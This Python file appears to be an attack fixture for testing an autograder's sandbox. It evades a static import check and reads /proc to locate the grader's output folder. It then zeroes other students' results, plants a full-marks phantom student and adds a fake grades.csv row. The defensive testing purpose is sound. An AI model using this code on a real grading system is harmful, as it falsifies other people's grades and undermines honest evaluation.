# ATTACK (machine, runs past the static check): tamper_results without `import os`. Finds its --out folder
# (its own stdout's target /proc/self/fd/1, and the command lines of the processes above it: the grader),
# zeroes every other results.json there, adds a phantom student with full marks and appends a phantom row
# to grades.csv; --out folders guessed under pytest's temporary folder (which may be other runs') it only
# probes, with a file it removes at once.
# A secure grader: the sandbox shows no --out folder; every other results.json is unchanged and grades.csv
# lists exactly the submissions graded.
import json
import pathlib

P = pathlib.Path


def _ancestors():
    """(pid, argv, cwd) of this process's parent, its parent, and so on: the grader, where visible."""
    found, pid = [], int(P("/proc/self/stat").read_text().rsplit(")", 1)[1].split()[1])
    while pid > 1 and len(found) < 8:
        d = P("/proc") / str(pid)
        try:
            argv = [x.decode("utf-8", "replace") for x in (d / "cmdline").read_bytes().split(b"\0") if x]
            cwd = str((d / "cwd").readlink())
            ppid = int((d / "stat").read_text().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError):
            break
        found.append((pid, argv, cwd))
        pid = ppid
    return found


def _probe(folder):
    """Whether a file could be written in a guessed folder (the probe is removed at once)."""
    probe = P(folder) / f"gpu-course-attack-probe-{P('/proc/self').resolve().name}"
    try:
        probe.write_text("probe\n")
        probe.unlink()
        return "WRITABLE"
    except OSError as exc:
        return f"not writable ({type(exc).__name__})"


def _outs():
    outs, own = [], None
    try:
        log = str(P("/proc/self/fd/1").readlink())
        if log.endswith("/output.log"):
            outs.append(str(P(log).parent.parent))
            own = P(log).parent.name
    except OSError:
        pass
    for _, argv, cwd in _ancestors():
        for i, a in enumerate(argv[:-1]):
            if a == "--out":
                outs.append(str(P(cwd) / argv[i + 1]))
    guessed = [str(p.parent.parent) for p in P("/tmp").glob("pytest-of-*/pytest-*/*/out/canary_student/results.json")]
    return sorted(set(outs)), own, sorted(set(guessed) - set(outs))


def _tamper():
    outs, own, guessed = _outs()
    print(f"ATTACK tamper_pathlib: out folders {outs}, own folder {own}", flush=True)
    for out in guessed[:4]:
        print(f"ATTACK tamper_pathlib: guessed {out}: {_probe(out)}", flush=True)
    for out in outs:
        for path in sorted(P(out).glob("*/results.json")):
            if path.parent.name == own:
                continue
            try:
                res = json.loads(path.read_text())
                res["score"] = 0.0
                for t in res.get("tests", []):
                    t["score"] = 0.0
                path.write_text(json.dumps(res))
                print(f"ATTACK tamper_pathlib: zeroed {path}", flush=True)
            except (OSError, ValueError) as exc:
                print(f"ATTACK tamper_pathlib: {path}: {exc}", flush=True)
        phantom = {"score": 8.0, "tests": [
            {"name": "vector_add: correctness", "score": 2.0, "max_score": 2.0, "status": "passed", "output": "",
             "extra_data": {"exercise": "vector_add", "part": "correctness"}}],
            "extra_data": {"submission": "phantom_student.py"}}
        try:
            (P(out) / "phantom_student").mkdir(exist_ok=True)
            (P(out) / "phantom_student" / "results.json").write_text(json.dumps(phantom))
            with open(P(out) / "grades.csv", "a") as f:
                f.write("phantom_row,2,2,1,5,8,0\n")
            print(f"ATTACK tamper_pathlib: added phantom_student and a phantom row in {out}", flush=True)
        except OSError as exc:
            print(f"ATTACK tamper_pathlib: {out}: {exc}", flush=True)
    print("ATTACK tamper_pathlib: done", flush=True)


try:
    _tamper()
except Exception as exc:
    print(f"ATTACK tamper_pathlib: stopped by {type(exc).__name__}: {exc}", flush=True)
